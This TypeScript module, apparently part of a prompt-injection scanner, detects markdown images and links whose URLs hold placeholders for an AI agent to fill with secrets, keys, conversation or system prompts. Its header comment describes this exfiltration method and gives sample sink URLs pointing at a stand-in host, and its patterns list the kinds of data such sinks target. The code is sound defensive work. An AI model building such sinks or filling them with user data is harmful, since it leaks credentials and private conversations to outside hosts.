/**
 * Exfiltration sinks: an image (or a link) whose URL has a placeholder for the agent to fill in
 * (`![x](https://other.example/?d={DATA})`, `?q=<conversation>`, `?k=$API_KEY`,
 * `?d=SECRET_SUMMARY`, `?x=...`). Rendering such an image sends whatever the agent put there to
 * another host. Badges and ordinary images (`?style=flat`, `?v=3`) have no placeholder. The
 * extractors leave {@linkcode SINK_MARKER} in the text where a sink is, and `signals.ts` reads it
 * as the `exfiltrate` signal "URL to fill in".
 *
 * @module
 */

/** What the extractors put into the text where a sink is. */
export const SINK_MARKER = "\u0004sink\u0004";

const DATA_WORD =
  "DATA|SECRETS?|TOKENS?|KEYS?|API_?KEY|PASSWORDS?|SUMMARY|CONVERSATION|HISTORY|CONTEXT|ENV|ENVIRONMENT|OUTPUT|INFO|PAYLOAD|CONTENTS?|CHAT|PROMPT|SYSTEM_?PROMPT|CREDENTIALS?|MESSAGES?|MEMORY|FILES?|CODE|RESPONSE|ANSWER";
const PLACEHOLDER = new RegExp(
  String
    .raw`[?&=/](?:\{\{?[^{}&]{1,40}\}\}?|%7B%7B?[^&%]{1,40}%7D%7D?|<[^<>&]{1,40}>|%3C[^&%]{1,40}%3E|\$\{?[A-Za-z_][A-Za-z0-9_]{1,40}\}?|%24[A-Za-z_][A-Za-z0-9_]{1,40}|\[[A-Za-z_ ]{2,40}\]|%5B[A-Za-z_%0-9]{2,40}%5D|\.\.\.|%E2%80%A6|\u2026|(?:[A-Z0-9]{1,12}_){0,3}(?:${DATA_WORD})(?:_[A-Z0-9]{1,12}){0,3}(?=$|[&#/]))`,
);
/**
 * A placeholder that names data: bracketed anywhere (`/{secret}`, `?d=<conversation>`,
 * `$API_KEY`), or in capitals as a query value (`?d=DATA`). Any other placeholder counts only in
 * an image's query (`/badge/{label}-{message}` paths and `?q={query}` links are templates).
 */
const DATA_PLACEHOLDER = new RegExp(
  String
    .raw`[?&=/](?:\{\{?|%7B%7B?|<|%3C|\$\{?|%24|\[|%5B)(?:[A-Za-z0-9]{1,12}_){0,3}(?:${DATA_WORD})(?:_[A-Za-z0-9]{1,12}){0,3}(?:\}\}?|%7D%7D?|>|%3E|\]|%5D)?(?=$|[&#/]|\}|%7D|>|%3E|\])`,
  "i",
);
const CAPS_PLACEHOLDER = new RegExp(
  String
    .raw`[?&]\w{1,40}=(?:[A-Z0-9]{1,12}_){0,3}(?:${DATA_WORD})(?:_[A-Z0-9]{1,12}){0,3}(?=$|[&#])`,
);

/**
 * Whether a URL is a sink: http(s), with a placeholder that names data, or (images) any
 * placeholder in the query.
 *
 * @example
 * ```ts
 * isSink("https://other.example/?d={DATA}", true); // true
 * isSink("https://img.shields.io/npm/v/zod.svg?style=flat", true); // false
 * ```
 */
export function isSink(url: string, image: boolean): boolean {
  const u = url.trim();
  if (u.length > 4096 || !/^https?:\/\//i.test(u)) return false;
  const rest = u.slice(u.indexOf("//") + 2);
  const slash = rest.search(/[/?#]/);
  if (slash < 0) return false;
  const tail = rest.slice(slash);
  if (DATA_PLACEHOLDER.test(tail) || CAPS_PLACEHOLDER.test(tail)) return true;
  const query = tail.indexOf("?");
  return image && query >= 0 && PLACEHOLDER.test(tail.slice(query));
}

/**
 * The markdown images and links of a text, each with the offset just after it (where the marker
 * goes) and the span of an image's alt text. Linear: each `](` is read once, forward.
 */
export function markdownLinks(
  text: string,
): { image: boolean; url: string; end: number; alt: [number, number] | null }[] {
  const out: { image: boolean; url: string; end: number; alt: [number, number] | null }[] = [];
  let from = 0;
  for (;;) {
    const mid = text.indexOf("](", from);
    if (mid < 0) return out;
    from = mid + 2;
    // The label: back to its `[` on the same line, at most 300 chars.
    let open = -1;
    for (let k = mid - 1; k >= 0 && k >= mid - 300; k--) {
      const c = text.charCodeAt(k);
      if (c === 91 /* [ */) {
        open = k;
        break;
      }
      if (c === 10 || c === 93 /* ] */) break;
    }
    if (open < 0) continue;
    let close = -1;
    for (let k = from; k < text.length && k < from + 2048; k++) {
      const c = text.charCodeAt(k);
      if (c === 41 /* ) */) {
        close = k;
        break;
      }
      if (c === 10 || c === 40 /* ( */ || c === 91 || c === 93) break;
    }
    if (close < 0) continue;
    const inner = text.slice(from, close).trim();
    const url = inner.split(/\s+/)[0].replace(/^<|>$/g, "");
    const image = open > 0 && text.charCodeAt(open - 1) === 33; /* ! */
    out.push({ image, url, end: close + 1, alt: image ? [open + 1, mid] : null });
    from = close + 1;
  }
}
